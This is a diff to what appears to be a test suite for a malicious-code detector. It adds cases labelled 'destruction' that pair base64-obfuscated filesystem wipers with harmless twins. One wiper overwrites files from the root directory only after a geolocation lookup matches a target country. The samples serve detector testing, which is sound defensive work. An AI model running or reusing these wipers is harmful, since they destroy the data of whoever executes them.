@@ -115,6 +115,31 @@ const HOOKS: readonly Deed[] = [
   },
 ]
 
+const WALKS = `const fs = require('fs'), path = require('path'), plain = (t) => Buffer.from(t, 'base64').toString()
+function walk(folder) { for (const one of fs.readdirSync(folder)) { const full = path.join(folder, one); if (fs.lstatSync(full).isDirectory()) walk(full); else STEP } }`
+
+/** Walks that begin at folders whose names were decoded, beside more such texts than are told apart in one place. */
+const WALKERS: readonly Deed[] = [
+  {
+    name: 'the files of everybody are written over where the machine stands in some country',
+    check: 'destruction',
+    code: `${WALKS.replace('STEP', `fs.writeFile(full, plain('aGVhcnQ='), () => {})`)}
+setTimeout(() => require('https').get(plain('aHR0cHM6Ly9nZW8uaW52YWxpZC8='), (a) => a.on('data', (d) => {
+  if (JSON.parse(d)[plain('Y291bnRyeQ==')].includes(plain('cnVyaXRhbmlh'))) for (const root of ['Li8=', 'Li4vLi4v', 'Lw==']) walk(plain(root))
+})), 900)`,
+    twin: `${WALKS.replace('STEP', `fs.writeFile(full + '.bak', fs.readFileSync(full), () => {})`)}
+setTimeout(() => require('https').get(plain('aHR0cHM6Ly9nZW8uaW52YWxpZC8='), (a) => a.on('data', (d) => {
+  if (JSON.parse(d)[plain('Y291bnRyeQ==')].includes(plain('cnVyaXRhbmlh'))) for (const root of ['Li9vdXQ=', 'Li9saWI=']) walk(path.join(__dirname, plain(root)))
+})), 900)`,
+  },
+  {
+    name: 'the files of everybody are written over from a folder whose name is decoded',
+    check: 'destruction',
+    code: `${WALKS.replace('STEP', `fs.writeFileSync(full, 'x')`)}\nfor (const root of ['Lw==']) walk(plain(root))`,
+    twin: `${WALKS.replace('STEP', `fs.writeFileSync(full, 'x')`)}\nfor (const root of ['Li9vdXQ=']) walk(path.join(__dirname, plain(root)))`,
+  },
+]
+
 /** Texts out of what stands in for an object, and code out of files that a loader of another name opens. */
 const TEXTS: readonly Deed[] = [
   {
@@ -144,4 +169,4 @@ const TEXTS: readonly Deed[] = [
   },
 ]
 
-testDeeds([...LOADERS, ...CONNECTIONS, ...PAGES, ...HOOKS, ...TEXTS])
+testDeeds([...LOADERS, ...CONNECTIONS, ...PAGES, ...HOOKS, ...WALKERS, ...TEXTS])
